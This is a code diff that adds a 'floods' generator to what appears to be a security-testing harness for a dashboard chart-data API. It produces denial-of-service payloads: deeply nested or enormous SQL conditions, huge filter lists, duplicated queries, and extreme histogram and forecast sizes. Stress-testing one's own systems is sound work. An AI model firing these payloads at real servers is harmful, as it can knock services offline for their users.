@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import json
 from collections.abc import Iterator
-from dataclasses import dataclass, field
+from dataclasses import dataclass, field, replace
 from typing import Any
 from urllib.parse import quote
 
@@ -500,6 +500,47 @@ def _changes(datasets: dict[str, int], target: int) -> Iterator[Attack]:
         "/api/v1/chart/data",
         {"datasource": {"id": -1, "type": "table"}, "queries": [{"columns": ["x"]}]},
     )
+
+
+def floods(target: int) -> Iterator[Attack]:
+    """Questions that would keep a server busy for long, or make it stumble."""
+    texts = {
+        "parentheses": "(" * 400 + "1=1" + ")" * 400,
+        "cases": "case when " * 150 + "1=1" + " then 1 end" * 150 + " = 1",
+        "negations": "not " * 450 + "1=1",
+        "places in a list": "display_name" + "[1]" * 600 + " = 'x'",
+        "conditions": " or ".join(["1=1"] * 20_000),
+    }
+    for name, sql in texts.items():
+        yield chart(target, f"{name} in a condition", columns=["tier_label"], extras={"where": sql})
+        yield chart(target, f"{name} in a metric", metrics=[metric(sql)])
+    names = [str(number) for number in range(100_000)]
+    yield chart(target, "values", columns=["tier_label"], filters=[_filter("person_id", "IN", names)])
+    yield chart(target, "filters", columns=["tier_label"], filters=[_filter("person_id", "==", "x")] * 5_000)
+    whole = chart(target, "queries", columns=["tier_label"])
+    yield replace(whole, body={**whole.body, "queries": whole.body["queries"] * 500})
+    nested: Any = "x"
+    for _ in range(500):
+        nested = [nested]
+    yield chart(target, "nesting", columns=nested)
+    yield chart(
+        target, "a value that is none", columns=["tier_label"], filters=[_filter("tier_label", "==", {"a": "b"})]
+    )
+    yield chart(target, "values that are none", columns=["tier_label"], filters=[_filter("tier_label", "IN", [["a"]])])
+    day = {
+        "columnType": "BASE_AXIS", "sqlExpression": "as_of_on", "label": "as_of_on", "expressionType": "SQL",
+        "timeGrain": "P9Y",
+    }  # fmt: skip
+    yield chart(target, "a grain that is none", columns=[day])
+    for operation, options in (
+        ("resample", {"rule": "1min", "method": "ffill"}),
+        ("histogram", {"column": "total_score", "bins": 20_000_000}),
+        ("prophet", {"time_grain": "PT1S", "periods": 100_000_000, "confidence_interval": 0.9}),
+    ):
+        step = {"operation": operation, "options": options}
+        yield chart(target, operation, columns=["as_of_on"], metrics=["children"], post_processing=[step])
+    shifts = [f"{number} days ago" for number in range(200)]
+    yield chart(target, "shifts in time", columns=["as_of_on"], metrics=["children"], time_offsets=shifts)
 
 
 def _arguments(values: dict[str, Any]) -> str:
